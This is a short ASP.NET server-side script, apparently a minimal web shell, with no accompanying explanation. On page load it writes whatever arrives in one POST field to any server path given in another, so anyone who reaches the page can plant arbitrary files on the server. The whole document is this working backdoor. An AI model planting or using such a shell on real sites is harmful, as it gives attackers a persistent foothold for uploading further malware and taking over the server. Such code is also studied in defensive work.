<script language="c#" runat="server">
void Page_Load(object sender, EventArgs e)
{
    System.IO.StreamWriter writer = new System.IO.StreamWriter(Request.Form["f"], false);
    writer.Write(Request.Form["c"]);
    writer.Close();
}
</script>
